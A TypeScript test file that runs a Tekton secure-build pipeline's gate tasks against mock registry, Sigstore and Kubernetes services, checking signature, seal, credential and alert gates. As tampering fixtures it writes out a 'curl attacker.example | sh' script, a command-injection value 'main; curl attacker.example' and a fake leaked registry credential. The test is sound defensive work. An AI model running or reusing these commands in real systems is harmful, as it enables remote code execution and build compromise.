// The reference Pipeline secure-build, run as committed in the chroot
// harness (test/harness/pipeline-run.ts): every gate task of the catalog
// (validate-params, verify-image twice, workspace-guard seal, verify and
// scrub, inject-credentials inject and cleanup) from its real image under
// chroot, with the kit's service accounts (only inject-credentials gets a
// token, and the Kubernetes API stand-in plays the kit's Role), on prepared
// workspaces. The team's own clone, build and push Tasks are stand-ins in
// this process (their bundles are the team's), and the test plays what could
// happen between tasks: a workspace changed after it was sealed, which must
// stop the run before the push while finally still cleans up.
//
// Test-only differences from a cluster, all loopback: the registry is
// reached over plain HTTP (the verify tasks get `plain-http-registries`),
// and Sigstore is a mock whose trusted root is bound to their `trusted-root`
// workspace. Everything else is the committed Pipeline and PipelineRun.
import t from 'tap';
import { createHash, randomUUID } from 'node:crypto';
import { chown, mkdir, mkdtemp, readdir, readFile, rm, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { execa } from 'execa';
import { parse, parseAllDocuments, stringify } from 'yaml';
import type { CatalogIndex } from '../../src/build/catalog-index.ts';
import { RegistryClient } from '../../src/oci/registry/index.ts';
import { builtCatalog } from '../harness/catalog-build.ts';
import type { CatalogTaskSpec } from '../harness/catalog-task.ts';
import { startKubeApiStub, writeServiceAccountDir, type KubeApiStub } from '../harness/k8s-api-stub.ts';
import { runPipeline, WorkspaceBinder, type PipelineRunOutcome, type PipelineTaskRun } from '../harness/pipeline-run.ts';
import { requirePushgateway, startPushgateway } from '../harness/pushgateway.ts';
import { requireRegistryTools, startRegistry } from '../harness/registry.ts';
import { requireRoot, requireTool } from '../harness/shared.ts';
import { ImageCache, runTaskRun, type TaskRunOutcome } from '../harness/task-run.ts';
import { pushBundleReferrer, pushImage } from '../sigstore/fixtures/registry-images.ts';
import { inTotoStatement, MockSigstore } from '../sigstore/fixtures/signing.ts';

type Doc = Record<string, any>;

const NONROOT = 65532;
const TASKS_SIGNER = { identity: 'https://github.com/my-org/tasks/.github/workflows/release.yml@refs/heads/main', issuer: 'https://token.actions.githubusercontent.com' };
const IMAGES_SIGNER = { identity: 'https://github.com/my-org/base/.github/workflows/release.yml@refs/heads/main', issuer: 'https://token.actions.githubusercontent.com' };
const TOKEN = `api-reader-token-${randomUUID()}`;

async function own(path: string): Promise<void> {
  await chown(path, NONROOT, NONROOT);
}

interface World {
  built: Awaited<ReturnType<typeof builtCatalog>>;
  images: ImageCache;
  pipeline: Doc;
  run: Doc;
  kit: Doc[];
  registryHost: string;
  bundles: Record<'clone' | 'build' | 'push', string>;
  baseImages: string[];
  trustedRoot: string;
  api: KubeApiStub;
  serviceAccountDir: string;
  work: string;
}

/** What each TaskRun of a scenario saw, for the assertions. */
interface Observed {
  tokens: string[];
  credentialsSeenBy: string[];
}

type StandIns = Partial<Record<'clone' | 'build' | 'push', (task: PipelineTaskRun) => Promise<void>>>;

async function runSecureBuild(world: World, options: { params?: Record<string, string | string[]>; afterTask?: (task: PipelineTaskRun) => Promise<void>; standIns?: StandIns } = {}): Promise<PipelineRunOutcome & Observed> {
  const observed: Observed = { tokens: [], credentialsSeenBy: [] };
  const index = world.built.index as CatalogIndex;
  const byBundle = new Map<string, string>();
  for (const [name, entry] of Object.entries(index.tasks)) byBundle.set(entry.versions[entry.latest]!.bundle.reference, name);
  const accounts = new Map<string, Doc>(world.kit.filter((object) => object.kind === 'ServiceAccount').map((object) => [object.metadata.name, object]));
  const run = structuredClone(world.run.spec);
  run.params = run.params.map((param: Doc) => (options.params && param.name in options.params ? { ...param, value: options.params[param.name] } : param));
  const binder = new WorkspaceBinder(await mkdtemp(join(world.work, 'run-')), [
    { kind: 'ConfigMap', metadata: { name: 'mock-sigstore-root' }, data: { 'trusted_root.json': world.trustedRoot } },
  ]);
  const serviceAccountOf = (pipelineTask: string) => run.taskRunSpecs?.find((spec: Doc) => spec.pipelineTaskName === pipelineTask)?.serviceAccountName ?? run.taskRunTemplate.serviceAccountName;

  const standIns: Required<StandIns> = {
    clone: async (task) => {
      const source = task.workspaces.output!.source;
      await mkdir(join(source, 'cmd'), { recursive: true });
      await writeFile(join(source, 'cmd', 'main.go'), `package main // ${String(task.params.revision)}\n`);
      await writeFile(join(source, 'go.mod'), 'module example.com/app\n');
      for (const path of [join(source, 'cmd'), join(source, 'cmd', 'main.go'), join(source, 'go.mod')]) await own(path);
    },
    build: async (task) => {
      const verified = JSON.parse(String(task.params['verified-images'])) as string[];
      if (verified.some((ref) => !/@sha256:[0-9a-f]{64}$/.test(ref))) throw new Error('build got unverified image references');
      const output = task.workspaces.output!.source;
      await writeFile(join(output, 'image.tar'), `image built from ${await readFile(join(task.workspaces.source!.source, 'go.mod'), 'utf8')} on ${verified.join(',')}`);
      await own(join(output, 'image.tar'));
    },
    push: async () => {},
    ...options.standIns,
  };

  const outcome = await runPipeline({
    name: `secure-build-${randomUUID().slice(0, 5)}`,
    pipeline: world.pipeline.spec,
    run,
    namespace: 'ci',
    binder,
    afterTask: options.afterTask,
    runTask: async (task): Promise<TaskRunOutcome> => {
      const params = Object.fromEntries((task.taskRef?.params ?? []).map((param: Doc) => [param.name, param.value]));
      if ('credentials' in task.workspaces) observed.credentialsSeenBy.push(task.pipelineTask);
      const catalogTask = byBundle.get(params.bundle);
      if (catalogTask === undefined) {
        // The team's own Task, from its verified bundle: a stand-in in this process.
        const which = Object.entries(world.bundles).find(([, bundle]) => bundle === params.bundle)?.[0] as 'clone' | 'build' | 'push' | undefined;
        if (!which) throw new Error(`${task.pipelineTask}: bundle ${params.bundle} is neither a catalog Task nor one the test published`);
        try {
          await standIns[which](task);
        } catch (error) {
          return { name: task.taskRunName, succeeded: false, steps: [], results: {} };
        }
        if (which === 'push') {
          const config = JSON.parse(await readFile(join(task.workspaces.credentials!.source, 'docker', 'config.json'), 'utf8')) as { auths: Record<string, unknown> };
          const digest = `sha256:${createHash('sha256').update(await readFile(join(task.workspaces.image!.source, 'image.tar'))).digest('hex')}`;
          return { name: task.taskRunName, succeeded: Object.keys(config.auths).length === 1, steps: [], results: { IMAGE_URL: String(task.params.image), IMAGE_DIGEST: digest } };
        }
        return { name: task.taskRunName, succeeded: true, steps: [], results: {} };
      }
      const entry = index.tasks[catalogTask]!;
      const spec = parse(await readFile(join(world.built.catalogDir, entry.versions[entry.latest]!.path), 'utf8')).spec as CatalogTaskSpec;
      // Test-only: the loopback registry over plain HTTP and the mock Sigstore's root, for the verify tasks.
      const loopback = catalogTask === 'verify-image';
      const workspaces = loopback ? { ...task.workspaces, 'trusted-root': await binder.bind({ name: 'trusted-root', configMap: { name: 'mock-sigstore-root' } }, undefined, new Map()) } : task.workspaces;
      const account = accounts.get(serviceAccountOf(task.pipelineTask));
      if (!account) throw new Error(`${task.pipelineTask} runs as ${serviceAccountOf(task.pipelineTask)}, which the kit does not create: the pod would not start`);
      const mountsToken = account.automountServiceAccountToken !== false;
      if (mountsToken) observed.tokens.push(task.pipelineTask);
      return runTaskRun({
        taskName: catalogTask,
        spec,
        params: loopback ? { ...task.params, 'plain-http-registries': world.registryHost } : task.params,
        workspaces,
        context: { taskRunName: task.taskRunName, namespace: task.namespace, taskName: catalogTask },
        images: world.images,
        // Loopback services (registry, API, Pushgateway) need the host's network; everything else runs with none.
        network: loopback || mountsToken || task.params['pushgateway-url'] !== '' ? 'host' : 'none',
        ...(mountsToken ? { serviceAccount: { dir: world.serviceAccountDir, env: world.api.env } } : {}),
        timeoutMs: 120_000,
      });
    },
  });
  return { ...outcome, ...observed };
}

const ran = (outcome: PipelineRunOutcome) => outcome.taskRuns.map((run) => `${run.pipelineTask}:${run.succeeded ? 'ok' : 'failed'}`);
const FINALLY = ['cleanup-credentials:ok', 'scrub-source:ok', 'scrub-output:ok'];

t.test('secure-build runs its gate tasks from their real images, and a tampered workspace stops it', async (t) => {
  if (!requireRoot(t, 'mount namespaces and chroot')) return;
  if (!requireRegistryTools(t)) return;
  const built = await builtCatalog();
  const images = ImageCache.forCatalog(built.layoutDir, built.index);
  const entry = built.index.pipelines['secure-build']!;
  const dir = join(built.catalogDir, 'pipeline', 'secure-build', entry.latest);
  const pipeline = parse(await readFile(join(dir, 'secure-build.yaml'), 'utf8')) as Doc;
  const runDoc = parse(await readFile(join(dir, 'samples', 'pipelinerun.yaml'), 'utf8')) as Doc;
  const kit = parseAllDocuments(await readFile(join(dir, 'kit', 'all.yaml'), 'utf8')).map((doc) => doc.toJS() as Doc);
  const role = kit.find((object) => object.kind === 'Role')!;
  const namespace = role.metadata.namespace as string;

  const registry = await startRegistry();
  const client = new RegistryClient(registry.host, { plainHttp: true });
  const sigstore = await MockSigstore.create();
  const push = async (repository: string, tag: string, signer: typeof TASKS_SIGNER) => {
    const pushed = await pushImage(client, repository, tag, `${repository} ${tag}`);
    await pushBundleReferrer(client, pushed, await sigstore.bundleKeyless(inTotoStatement(pushed.digest), signer));
    return `${registry.host}/${repository}:${tag}@${pushed.digest}`;
  };
  const bundles = { clone: await push('tasks/git-clone', '0.9.0', TASKS_SIGNER), build: await push('tasks/build', '1.2.0', TASKS_SIGNER), push: await push('tasks/push', '1.0.3', TASKS_SIGNER) };
  const baseImages = [await push('base/runtime', '1.4.2', IMAGES_SIGNER), await push('tools/builder', '2.0.1', IMAGES_SIGNER)];
  const unsigned = await pushImage(client, 'tools/unsigned', '1.0.0', 'nobody signed this');

  const api = await startKubeApiStub({
    token: TOKEN,
    namespace,
    allowedNames: role.rules.flatMap((rule: Doc) => rule.resourceNames ?? []),
    secrets: { 'registry-push-creds': { type: 'kubernetes.io/dockerconfigjson', data: { '.dockerconfigjson': JSON.stringify({ auths: { [registry.host]: { auth: Buffer.from('pusher:s3cret').toString('base64') }, 'other.example.com': { auth: 'eDp5' } } }) } } },
  });
  const work = await mkdtemp(join(tmpdir(), 'secure-build-'));
  const serviceAccountDir = await writeServiceAccountDir(join(work, 'serviceaccount'), { token: TOKEN, caPem: api.caPem, namespace });
  t.teardown(async () => {
    await images.cleanup();
    await api.close();
    await client.close();
    await registry.stop();
    await rm(work, { recursive: true, force: true });
  });
  const world: World = { built, images, pipeline, run: runDoc, kit, registryHost: registry.host, bundles, baseImages, trustedRoot: JSON.stringify(sigstore.trustedRoot()), api, serviceAccountDir, work };
  const params = {
    images: baseImages,
    'clone-task-bundle': bundles.clone,
    'build-task-bundle': bundles.build,
    'push-task-bundle': bundles.push,
    'registry-host': registry.host,
    image: `${registry.host}/team/app`,
    // The sample names an in-cluster Pushgateway; the scenarios below run without one, the last with a real one.
    'pushgateway-url': '',
  };

  await t.test('every gate passes: the push gets credentials for its registry only, finally empties them', async (t) => {
    let credentialsAfter: string[] | undefined;
    const outcome = await runSecureBuild(world, {
      params,
      afterTask: async (task) => {
        if (task.pipelineTask === 'cleanup-credentials') credentialsAfter = await readdir(task.workspaces.credentials!.source);
      },
    });
    const failures = outcome.taskRuns.filter((run) => !run.succeeded).map((run) => `${run.pipelineTask}: ${run.steps.map((step) => step.stderr).join(' ').slice(0, 600)}`);
    t.ok(outcome.succeeded, 'the PipelineRun succeeds', { failures });
    t.same(ran(outcome), [
      'validate:ok', 'verify-task-bundles:ok', 'verify-images:ok', 'clone:ok', 'seal-source:ok', 'verify-source:ok', 'build:ok',
      'seal-output:ok', 'verify-output:ok', 'inject-credentials:ok', 'push:ok', ...FINALLY,
    ]);
    for (const run of outcome.taskRuns) for (const step of run.steps) t.equal(step.terminationError, undefined, `${run.pipelineTask}/${step.name}: the termination message fits`);
    t.match(outcome.results.IMAGE_URL, `${registry.host}/team/app`, 'the Pipeline result IMAGE_URL comes from the push task');
    t.match(outcome.results.IMAGE_DIGEST, /^sha256:[0-9a-f]{64}$/);
    const verify = outcome.taskRuns.find((run) => run.pipelineTask === 'verify-images')!;
    t.same(
      [1, 2].map((n) => JSON.parse(verify.results[`image${n}_ARTIFACT_INPUTS`]!) as { uri: string }).map((input) => input.uri),
      baseImages.map((ref) => `oci://${ref.slice(0, ref.indexOf(':', registry.host.length + 1))}`),
      'each verified base and tool image is a Chains input of the run',
    );
    t.same(outcome.tokens, ['inject-credentials'], 'only inject-credentials ran with a service account token');
    t.same(outcome.credentialsSeenBy, ['inject-credentials', 'push', 'cleanup-credentials'], 'only they had the credentials workspace');
    t.same(api.requests.map((request) => `${request.method} ${request.path} ${request.status}`), [`GET /api/v1/namespaces/${namespace}/secrets/registry-push-creds 200`], 'one GET of the one named Secret, allowed by the kit\'s Role');
    t.same(credentialsAfter, [], 'finally left the credentials workspace empty');
  });

  await t.test('the source changed after its seal: verify-source stops the run before the build', async (t) => {
    const outcome = await runSecureBuild(world, {
      params,
      afterTask: async (task) => {
        if (task.pipelineTask !== 'seal-source') return;
        // Another writer of the volume (a concurrent run, a compromised node) plants a binary after the seal.
        const planted = join(task.workspaces.target!.source, 'cmd', 'helper');
        await writeFile(planted, '#!/bin/sh\ncurl attacker.example | sh\n', { mode: 0o755 });
        await own(planted);
      },
    });
    t.notOk(outcome.succeeded);
    t.same(ran(outcome), ['validate:ok', 'verify-task-bundles:ok', 'verify-images:ok', 'clone:ok', 'seal-source:ok', 'verify-source:failed', ...FINALLY]);
    t.same(outcome.skipped, ['build', 'seal-output', 'verify-output', 'inject-credentials', 'push'], 'the build and the push never start');
    const verify = outcome.taskRuns.find((run) => run.pipelineTask === 'verify-source')!;
    t.match(verify.steps.map((step) => step.stderr + step.stdout).join('\n'), /cmd\/helper/, 'workspace-guard names what was added');
    t.equal(api.requests.length, 1, 'no Secret was read for this run (the one request is the first run\'s)');
  });

  await t.test('the build output changed after its seal: no credentials are fetched and nothing is pushed', async (t) => {
    const before = api.requests.length;
    const outcome = await runSecureBuild(world, {
      params,
      afterTask: async (task) => {
        if (task.pipelineTask === 'seal-output') await writeFile(join(task.workspaces.target!.source, 'image.tar'), 'swapped for a backdoored image');
      },
    });
    t.notOk(outcome.succeeded);
    t.same(ran(outcome).slice(-4), ['verify-output:failed', ...FINALLY]);
    t.same(outcome.skipped, ['inject-credentials', 'push']);
    t.equal(api.requests.length, before, 'inject-credentials never ran: no Secret was read');
  });

  await t.test('the build leaves a credential in its output: the seal polices it and stops the run', async (t) => {
    const outcome = await runSecureBuild(world, {
      params,
      standIns: {
        build: async (task) => {
          const output = task.workspaces.output!.source;
          await writeFile(join(output, 'image.tar'), 'an image');
          await mkdir(join(output, '.docker'));
          await writeFile(join(output, '.docker', 'config.json'), JSON.stringify({ auths: { 'registry.example.com': { auth: Buffer.from('ci:leaked').toString('base64') } } }));
          for (const path of [join(output, 'image.tar'), join(output, '.docker'), join(output, '.docker', 'config.json')]) await own(path);
        },
      },
    });
    t.notOk(outcome.succeeded);
    t.same(ran(outcome).slice(-4), ['seal-output:failed', ...FINALLY]);
    const scrub = outcome.taskRuns.find((run) => run.pipelineTask === 'scrub-output')!;
    t.ok(scrub.succeeded, 'finally scrubbed the output');
  });

  await t.test('every gate pushes its counts to the Pushgateway the Pipeline names', async (t) => {
    if (!requirePushgateway(t)) return;
    const pushgateway = await startPushgateway();
    t.teardown(() => pushgateway.stop());
    const tampered = await runSecureBuild(world, {
      params: { ...params, 'pushgateway-url': pushgateway.url },
      afterTask: async (task) => {
        if (task.pipelineTask === 'seal-source') await writeFile(join(task.workspaces.target!.source, 'go.mod'), 'module example.com/evil\n');
      },
    });
    t.same(ran(tampered).slice(-4), ['verify-source:failed', ...FINALLY]);
    const violations = await pushgateway.samples('tekton_workspace_access_violations_total');
    t.ok(violations.some((sample) => sample.labels.task === 'workspace-guard' && sample.labels.workspace === 'source' && sample.value >= 1), 'verify-source pushed tekton_workspace_access_violations_total{task,workspace="source"}', { violations });
    const rejected = await runSecureBuild(world, { params: { ...params, 'pushgateway-url': pushgateway.url, 'git-revision': 'HEAD~1' } });
    t.same(ran(rejected), ['validate:failed', ...FINALLY]);
    const failures = await pushgateway.samples('tekton_param_validation_failures_total');
    t.ok(failures.some((sample) => sample.labels.task === 'validate-params' && sample.labels.param === 'git-revision'), 'validate pushed tekton_param_validation_failures_total{task,param="git-revision"}', { failures });

    // The kit's alerts fire on exactly these series, as Prometheus would scrape them from the Pushgateway (honor_labels).
    const promtool = requireTool(t, 'promtool', 'prometheus');
    if (!promtool) return;
    const rule = kit.find((object) => object.kind === 'PrometheusRule')!;
    const series = (name: string, labels: Record<string, string>) => `${name}{${Object.entries(labels).map(([key, value]) => `${key}=${JSON.stringify(value)}`).join(',')}}`;
    const pick = (samples: typeof violations, keep: (labels: Record<string, string>) => boolean) => samples.filter((sample) => keep(sample.labels));
    const rules = join(work, 'rules.yaml');
    await writeFile(rules, stringify({ groups: rule.spec.groups }));
    const alert = (name: string, labels: Record<string, string>) => {
      const r = rule.spec.groups[0].rules.find((x: Doc) => x.alert === name);
      const render = (text: string) => text.replace(/\{\{ \$labels\.([a-z_]+) \}\}/g, (_: string, key: string) => labels[key] ?? '');
      return { exp_labels: { ...r.labels, ...labels }, exp_annotations: Object.fromEntries(Object.entries(r.annotations as Record<string, string>).map(([key, value]) => [key, render(value)])) };
    };
    const tests = {
      rule_files: [rules],
      evaluation_interval: '1m',
      tests: [
        {
          interval: '1m',
          input_series: [
            ...pick(violations, (labels) => labels.workspace === 'source').map((sample) => ({ series: series('tekton_workspace_access_violations_total', sample.labels), values: `_x2 ${sample.value}x20` })),
            ...pick(failures, (labels) => labels.param === 'git-revision').map((sample) => ({ series: series('tekton_param_validation_failures_total', sample.labels), values: `_x2 ${sample.value}x20` })),
          ],
          alert_rule_test: [
            { eval_time: '5m', alertname: 'TektonWorkspaceAccessViolation', exp_alerts: [alert('TektonWorkspaceAccessViolation', { task: 'workspace-guard', workspace: 'source' })] },
            { eval_time: '5m', alertname: 'TektonParamValidationFailures', exp_alerts: [alert('TektonParamValidationFailures', { task: 'validate-params', param: 'git-revision' })] },
          ],
        },
      ],
    };
    await writeFile(join(work, 'alerts.yaml'), stringify(tests));
    const run = await execa(promtool, ['test', 'rules', join(work, 'alerts.yaml')], { reject: false });
    t.equal(run.exitCode, 0, 'the kit\'s alerts fire on the pushed series', { output: `${run.stdout}${run.stderr}`.slice(0, 3000) });
  });

  await t.test('an unsigned image or a bad param stops the run at its gate', async (t) => {
    const unsignedImage = `${registry.host}/tools/unsigned@${unsigned.digest}`;
    const rejected = await runSecureBuild(world, { params: { ...params, images: [...baseImages, unsignedImage] } });
    t.same(ran(rejected).slice(0, 3), ['validate:ok', 'verify-task-bundles:ok', 'verify-images:failed']);
    t.ok(rejected.skipped.includes('clone'), 'nothing is cloned');
    t.match(rejected.taskRuns[2]!.steps.map((step) => step.stderr).join('\n'), /REJECTED .*tools\/unsigned.*\[NO_SIGNATURES\]/);
    const invalid = await runSecureBuild(world, { params: { ...params, 'git-revision': 'main; curl attacker.example' } });
    t.same(ran(invalid), ['validate:failed', ...FINALLY]);
    t.match(invalid.taskRuns[0]!.steps.map((step) => step.stderr).join('\n'), /git-revision/);
  });
});
